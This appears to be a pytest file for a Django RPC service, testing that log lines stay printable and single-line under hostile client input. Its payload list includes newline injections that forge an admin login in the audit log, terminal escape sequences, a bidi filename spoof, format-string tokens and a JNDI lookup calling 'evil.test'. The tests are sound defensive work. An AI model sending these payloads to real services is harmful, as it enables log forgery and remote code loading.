"""Whatever clients send, each record in the log is one line that prints: no forged lines, no controls."""

import json
import logging
from collections.abc import Callable, Iterator
from typing import Any
from urllib.parse import quote

import msgpack
import pytest

from tests.calls import PASSWORD, Service
from tests.realtime import until
from toto_django.events import EventManager
from toto_django.invocation import jsonp

Toto = Callable[..., None]

FORGED = "toto_django.audit login_succeeded user_id=admin"
EVIL = [
    f"a\n{FORGED}",
    f"a\r\n{FORGED}",
    f"a\r{FORGED}",
    f"a\x0b{FORGED}",
    f"a\x0c{FORGED}",
    f"a\x85{FORGED}",
    f"a\u2028{FORGED}",
    f"a\u2029{FORGED}",
    "\x1b[2J\x1b[1;31mroot",
    "\x1b]0;title\x07",
    "\x9b31m",
    "\x08\x08\x08\x7f",
    "\x00",
    "safe\u202etxt.exe",
    "\u2066isolated\u2069",
    "\ufeff\u200b",
    "\ud800",
    "%s%n%(levelname)s {} {0.__class__}",
    "${jndi:ldap://evil.test/a}",
    "x" * 100_000,
]
LONGEST = 5000
"""Characters of a line."""


@pytest.fixture(autouse=True)
def everything(caplog: pytest.LogCaptureFixture, toto: Toto) -> Iterator[None]:
    """All loggers write, and in the end all that they wrote is looked at."""
    caplog.set_level(logging.DEBUG)
    toto(SLOW_CALL=1e-9)
    yield
    for record in caplog.records:
        message = record.getMessage()
        assert message.isprintable(), (record.name, ascii(message[:200]))
        assert len(message) <= LONGEST or record.name.startswith("django."), (record.name, len(message))
        assert record.name != "root"


@pytest.fixture
def lines(caplog: pytest.LogCaptureFixture) -> Callable[[str], list[str]]:
    """What a logger wrote."""
    return lambda name: [record.getMessage() for record in caplog.records if record.name == name]


evil = pytest.mark.parametrize("text", EVIL, ids=lambda text: ascii(text[:12]))


@evil
def test_names_of_methods(service: Service, text: str) -> None:
    service.call(text)
    service.call(f"echo.{text}")
    service.call("echo", {"method": text})
    service.batch({text: {"method": text}, "b": {"method": {text: text}}})
    for verb in ("GET", "POST", "PUT", "OPTIONS"):
        service.send(verb, "/" + quote(text[:1000].encode("utf-8", "replace"), safe=""))


@evil
def test_user_ids_and_passwords(service: Service, lines: Any, text: str) -> None:
    for value in (text, [text], {text: text}, f"{text}@example.com"):
        service.call("account.login", {"user_id": value, "password": text})
        service.call("account.create", {"user_id": value, "password": "", text: text})
        service.call("account.create", {"user_id": value, "password": PASSWORD, text: text})
    login = service.create("ann")
    service.call("account.update", {"user_id": text, "password": PASSWORD, text: text}, login)
    service.call("account.update", {"password": text, "new_password": text}, login)
    assert lines("toto_django.audit"), "the audit's logger is off"
    assert all(line.count("user_id=") <= 1 for line in lines("toto_django.audit") if FORGED not in text)


@evil
def test_reports_of_browsers(service: Service, lines: Any, text: str) -> None:
    for report in (text, {text: text}, [text, {"stack": text}], None, {"a": {text: [text]}}):
        service.call("client_error", {"client_error": report, "client_type": "browser_js"})
        service.call("client_error", {"client_error": report, "client_type": text})
    assert len(lines("toto_django.client_error")) == 5


def test_reports_with_keys_of_any_kind(service: Service, lines: Any) -> None:
    report = {1: "a", None: "b", b"\xff\n": "c", 1.5: "d", "e": msgpack.ExtType(5, b"\n")}
    body = msgpack.packb(
        {"method": "client_error", "parameters": {"client_error": report, "client_type": "browser_js"}}
    )
    answer = service.send("POST", "/", body, content_type="application/msgpack")
    assert msgpack.unpackb(answer.content) == {"result": {"logged": True}}
    assert len(lines("toto_django.client_error")) == 1


@evil
def test_headers(service: Service, toto: Toto, text: str) -> None:
    toto(TRUSTED_PROXIES=["127.0.0.1"], USE_COOKIES=True, ALLOW_ORIGIN=["https://good.test"], SLOW_CALL=1e-9)
    value = text[:5000].encode("utf-8", "replace").decode("latin-1").replace("\n", "").replace("\r", "")
    names = (
        *("x_request_id", "x_toto_session_id", "x_toto_hmac", "x_forwarded_for", "origin", "user_agent"),
        *("referer", "cookie", "accept", "host", "access_control_request_headers", "content_type"),
    )
    for name in names:
        if name == "content_type" and not (value.isascii() and len(value) < 1000):
            continue  # Django's test client cannot send it.
        for method in ("auth.required", "account.login", "err.generic"):
            service.send("POST", "/", json.dumps({"method": method}).encode(), **{name: value})
        service.send("OPTIONS", "/", **{name: value})
    bad = {"x_request_id": value}
    answer = service.send("POST", "/", b'{"method": "echo"}', **bad)
    assert answer.headers.get("x-request-id", "").isprintable()


@evil
def test_names_in_what_cannot_be_encoded(
    service: Service, register: Any, without_signatures: None, text: str
) -> None:
    key = text.encode("utf-8", "replace").decode()
    register("test.jsonp", jsonp(lambda handler, parameters: {key: float("nan")}))
    register("test.json", lambda handler, parameters: {"a": [{key: float("nan")}]})
    service.send("GET", "/test.jsonp?jsonp=cb")
    assert service.call("test.json")["error"]["code"] == 1000
    assert service.batch({text: {"method": "test.json"}})["batch"][text]["error"]["code"] == 1000
    body = msgpack.packb({"method": "sess.set", "parameters": {"k": key, "v": {key: float("nan")}}})
    answer = service.send("POST", "/", body, content_type="application/msgpack")
    session_id = msgpack.unpackb(answer.content)["session"]["session_id"]
    body = {"method": "sess.get", "parameters": {"k": key}}
    assert service.post(body, x_toto_session_id=session_id).json()["error"]["code"] == 1000


@evil
def test_names_of_events(text: str, caplog: pytest.LogCaptureFixture) -> None:
    manager = EventManager.instance()

    def fail(args: Any) -> None:
        raise ValueError("a handler's own failure")

    name = text[:1000]
    manager.register_handler(name, fail)
    manager.send(name, text if text != "\ud800" else "")
    until(lambda: any("a handler of the event" in record.getMessage() for record in caplog.records))


def test_what_would_be_found() -> None:
    """The fixture above refuses what it shall refuse."""
    assert not any(text.isprintable() for text in EVIL[:17])
